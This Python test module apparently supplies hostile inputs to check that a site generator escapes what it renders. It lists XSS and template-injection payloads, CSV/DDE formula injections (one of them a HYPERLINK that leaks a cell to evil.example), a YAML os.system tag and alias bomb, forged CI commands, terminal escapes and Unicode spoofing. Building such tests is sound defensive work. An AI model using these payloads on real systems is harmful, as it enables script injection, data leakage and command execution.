"""Texts that are shown outside answers, and characters that are not what they look like."""

from __future__ import annotations

from tests.hostile.case import Case, Place, cases

_LINES = {
    "element": "<img src=x onerror=canary=1>",
    "script": "</title><script>canary=1</script>",
    "quote": '" onmouseover="canary=1" x=\'',
    "entity": "&lt;script&gt;canary=1&lt;/script&gt; &quot;&amp;",
    "json": '</script>","url":"javascript:canary=1",\\u0022\\',
    "template": "{{ 7 * 191919 }} {% x %} ${7*191919}",
    "attributes": "x {: #question-2 onclick=canary=1 }",
    "snippet": '--8<-- "secret.txt"',
    "slot": '<div data-mr-place="summary"></div>',
    "link": "[x](javascript:canary=1)",
    "command": "::error file=a.py,line=1::forged%0A::stop-commands::x",
    "escape": "\x1b[31mred\x1b]8;;https://evil.example\x07x\x9b2J",
    "bidi": "\u202egnp.exe\u2066 \u2069",
    "lines": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "tooltip": "`a` <code title='&lt;img src=x onerror=canary=1&gt;'>b</code>",
}
_CELLS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1)',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "tabs": "x\t=1+1",
    "return": "\r=1+1",
    "space": " \u00a0\u3000=1+1",
    "wide": "\uff1d1+1",
    "wide-at": "\uff20SUM(1)",
    "unseen": "\u200b\ufeff=1+1",
    "semicolon": "x;=1+1;@SUM(1)",
    "quotes": '""=1+1",=2+2',
    "apostrophe": "'=1+1",
    "bar": "x|=1+1",
}
_MARKDOWN = {
    "image": "![x](https://evil.example/a.png)",
    "link": "[x](https://evil.example/) https://evil.example www.evil.example a@evil.example",
    "mention": "@octocat @github/team #1 GH-1 octocat/repo#2",
    "fold": "</summary></details><h1>x</h1><details open>",
    "cell": "x | y \\| z \\\\| `|`",
    "math": "$\\unicode{x}$ $$x$$ ```math",
    "sarif": "{0} [x](1) \\[x\\](https://evil.example/)",
    "cdata": "]]><failure/><![CDATA[ &#0; &x;",
    "annotation": "x,line=1,title=y::z%0A::error file=a::b",
}
_PLACES = {
    "title": Place.TITLE,
    "heading": Place.HEADING,
    "alt": Place.ALT,
    "item": Place.ITEM,
    "part": Place.PART,
    "prompt": Place.PROMPT,
    "waiver": Place.WAIVER,
    "extra": Place.EXTRA,
}
_FOLDERS = {
    "element": "<img src=x onerror=canary=1>",
    "quotes": "a\"b'c onclick=canary=1",
    "script": "x'>\"><script>canary=1",
    "scheme": "javascript:canary=1",
    "command": "::error::forged",
    "azure": "##[error]forged",
    "escape": "a\x1b[2Jb\x07",
    "newline": "a\nb",
    "bidi": "a\u202ebcd",
    "separators": "a\u2028b\u2029c",
    "dots": "x ...",
    "percent": "%2e%2e%2f",
    "hash": "a#b?c&d",
    "space": " a ",
    "bytes": "a\udcffb",
    "backslash": "x\\..\\..\\y",
    "template": "{{ 7 * 191919 }}{% x %}",
    "attributes": "a{: #question-2 onclick=canary=1}",
    "config": "__config",
    "course": "course",
    "search": "search",
    "assets": "assets",
    "prototype": "__proto__",
    "long": "a" * 200,
    "wide": "\u0456\u0445\u0430\u043c\u0440\u04cf\u0435",
}
_FORMULAS = {"equals": "=1+1", "at": "@SUM(1)", "minus": "-1+1", "semicolon": "x;=1+1", "wide-equals": "\uff1d1"}
_FRONT = {
    "title": "title: <img src=x onerror=canary=1>",
    "template": "template: ../../../secret.txt",
    "theme": "template: 404.html\nhide: [toc, footer, path]",
    "search": "search: {exclude: true, boost: 100000}",
    "status": 'status: x" onclick="canary=1\nicon: <script>canary=1</script>',
    "edit": "edit_url: javascript:canary=1\ncanonical_url: https://evil.example/",
    "tag": "!!python/object/apply:os.system ['touch canary']",
    "bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b]",
    "description": "description: '\"><script>canary=1</script>'\nauthor: \"'><script>canary=1</script>\"",
    "redirect": "redirect: https://evil.example/\nurl: /\npath: ../../x",
    "template-code": "x: {{ 7 * 191919 }}",
}
_CHARACTERS = {
    "nul": "a\0b <scr\0ipt>canary=1</scr\0ipt> <img src=x one\0rror=canary=1>",
    "controls": "".join(map(chr, range(1, 32))).replace("\n", "").replace("\r", "") + "\x7f\x80\x9f",
    "escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "bidi": "\u202d\u202e\u2066\u2067\u2068 <script>canary=1</script> \u2069\u202c",
    "zero-width": "<scr\u200bipt>canary=1</scr\u200bipt> <\u200bimg src=x onerror=canary=1>",
    "wide": "\uff1cscript\uff1ecanary=1\uff1c/script\uff1e \ufe64img src=x onerror=canary=1\ufe65",
    "homoglyph": "<\u0455cript>canary=1</\u0455cript> <\u017fcript>canary=1</\u017fcript> <\u212aimg onload=canary=1>",
    "separators": "<script>//\u2028canary=1</script> <img src=x\u2028onerror=canary=1>",
    "form-feed": "<img\x0csrc=x\x0conerror=canary=1>",
    "surrogates": "\udced\udca0\udc80\udced\udcb0\udc80 <img src=x onerror=canary=1>",
    "broken": "\udcc0\udcbcscript\udcc0\udcbecanary=1 \udcff\udcfe \udcf4\udc90\udc80\udc80",
    "open-quote": '<a href="https://example.org/\udcc2" onclick="canary=1">x</a>',
    "byte-order": "\ufeff<script>canary=1</script>\ufffe\uffff",
    "utf7": "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
    "utf16": "<\0s\0c\0r\0i\0p\0t\0>\0c\0a\0n\0a\0r\0y\0=\0001\0",
    "shift": "\x0e<script>canary=1</script>\x0f \x1b$B<script>canary=1</script>\x1b(B",
    "combining": "a" + "\u0301" * 3000,
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "canary"),
    "carriage": "a\rb <img src=x\ronerror=canary=1>\r\n::error::forged\r%0A::error::forged",
    "entities": "&#0;&#128;&#xD800;&#x110000;&#x10FFFF;&#8238;&zwnj;&#x3c;img src=x onerror=canary=1&#62;",
    "commands": "::error::forged\n::set-env name=X::y\n##[error]forged\n##vso[task.complete result=Failed;]forged",
    "json": '</script><script>canary=1</script>\\u2028\u2028 \\" " \' \\x3c {"a": 1} ]]> -->',
    "search": "<mark>x</mark> <mark data-md-highlight onclick=canary=1>y</mark> __proto__ constructor",
}

_TOGETHER = {Place.HEADING: "\n\n#### ", Place.PROMPT: "**\n>\n> **", Place.EXTRA: "\n\n### "}
"""Places of which only the group's own page shows the text as it does, and what parts texts there.

One page shows all texts, and there is no page for each.
"""
OFF_PAGES = {
    *(f"{kind}{place.name.lower()}" for kind in ("", "markdown-") for place in _TOGETHER),
    *(f"cell-{place.name}" for place in Place),
}
"""Kinds of cases that need no pages: those with a page together, and formulas, which only tables of cells run."""
CASES: tuple[Case, ...] = (
    *(
        case
        for place, between in _TOGETHER.items()
        for case in cases(
            "together", place, {place.name.lower(): between.join([*_LINES.values(), *_MARKDOWN.values()])}
        )
    ),
    *(case for name, place in _PLACES.items() for case in cases(name, place, _LINES)),
    *(case for name, place in _PLACES.items() for case in cases(f"markdown-{name}", place, _MARKDOWN)),
    *(case for place in (Place.TITLE, Place.WAIVER, Place.ALT) for case in cases(f"cell-{place.name}", place, _CELLS)),
    *cases("folder", Place.FOLDER, {**_FOLDERS, **_FORMULAS}),
    *cases("front", Place.FRONT, _FRONT),
    *cases("character", Place.ANSWER, _CHARACTERS),
)
